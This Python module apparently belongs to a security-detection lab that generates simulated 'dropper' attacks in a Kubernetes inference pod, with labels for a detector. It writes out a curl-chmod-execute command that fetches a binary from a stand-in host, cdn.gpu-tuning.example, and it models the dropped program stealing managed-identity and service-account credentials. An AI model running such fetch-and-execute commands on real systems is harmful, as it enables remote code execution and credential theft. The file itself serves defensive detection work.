"""Attacks that bring a program of their own into the pod and let it collect."""

from __future__ import annotations

from eightysix.lab.generate.label import Label, attack
from eightysix.lab.generate.programs import Endpoint, boot_python, call
from eightysix.lab.generate.scenarios.cast import (
    FAST,
    MANAGED_IDENTITY,
    SERVER,
    SERVICE_ACCOUNT,
    STOLEN_SECRET,
    floor,
    inference,
    stages,
    start_server,
    steal,
)
from eightysix.lab.generate.scene import Process, Scene, Streams
from eightysix.lab.generate.sensor import Stack
from eightysix.lab.generate.settings import FULL, KERNEL_AND_AUDIT, KERNEL_ONLY, Setting

__all__: list[str] = []

_LANDS = 1_200.0
_HOST = Endpoint("198.51.100.77", 443, "cdn.gpu-tuning.example")


def _drop(setting: Setting, target: str) -> tuple[Scene, Process, Process]:
    """The server's handler is made to run a shell (by a model that is no model), and the shell fetches `target`."""
    scene = Scene(setting)
    container = inference(scene)
    server = scene.entrypoint(0.31, container, "/opt/venv/bin/python", "/app/server.py")
    start_server(server, 0.31)
    fetch = f"curl -fsSL -o {target} https://{_HOST.host}/x"
    server.sense_child(_LANDS - 0.01, ("/bin/sh", "-c", fetch), SERVER)
    shell = server.exec(_LANDS, "/bin/sh", f'-c "{fetch}; chmod 755 {target}; {target}"')
    curl = shell.exec(_LANDS + 0.01, "/usr/bin/curl", f"-fsSL -o {target} https://{_HOST.host}/x")
    call(curl, _LANDS + 0.06, _HOST, None)
    curl.write(_LANDS + 0.31, target)
    curl.exit(_LANDS + 0.35)
    return scene, server, shell


def _label(setting: Setting, robbed: Process, telling: str) -> Label:
    return Label(
        malicious=True,
        at_least=floor(setting) if setting.audit else "suspect",
        at_most="contain",
        telling=telling,
        twin="exec-debugging",
        stages=stages(setting, kernel_sees_run=True),
        rules=("credential-sweep",),
        identities=(MANAGED_IDENTITY, SERVICE_ACCOUNT, STOLEN_SECRET),
        t0_s=_LANDS,
        leaves_s=_LANDS + FAST.leave,
        pod_uid=robbed.container.pod.uid,
    )


@attack("dropper", FULL, KERNEL_AND_AUDIT, KERNEL_ONLY)
def dropper(setting: Setting) -> tuple[Streams, Label]:
    """`curl -o /tmp/x`, `chmod`, `/tmp/x`; the new program takes credentials of two domains."""
    scene, _server, shell = _drop(setting, "/tmp/x")
    chmod = shell.exec(_LANDS + 0.37, "/usr/bin/chmod", "755 /tmp/x")
    chmod.exit(_LANDS + 0.372)
    program = shell.exec(_LANDS + 0.39, "/tmp/x", "")
    steal(program, _LANDS, None, FAST, agent="Go-http-client/2.0")
    program.exit(_LANDS + FAST.leave + 0.4)
    shell.exit(_LANDS + FAST.leave + 0.41)
    return scene.streams(), _label(
        setting, program, "the program that asks was written after the container started"
    )


@attack("dropped-script", FULL, KERNEL_AND_AUDIT)
def dropped_script(setting: Setting) -> tuple[Streams, Label]:
    """The same with a script: the binary is the image's own interpreter, only its argument is new."""
    scene, _server, shell = _drop(setting, "/tmp/.cache/collect.py")
    program = shell.exec(_LANDS + 0.39, "/opt/venv/bin/python", "/tmp/.cache/collect.py")
    boot_python(program, _LANDS + 0.39, ["/opt/venv/bin/python", "/tmp/.cache/collect.py"])
    steal(program, _LANDS, Stack(("app:/tmp/.cache/collect.py",)), FAST)
    program.exit(_LANDS + FAST.leave + 0.4)
    shell.exit(_LANDS + FAST.leave + 0.41)
    return scene.streams(), _label(
        setting, program, "the script that asks was written after the container started"
    )
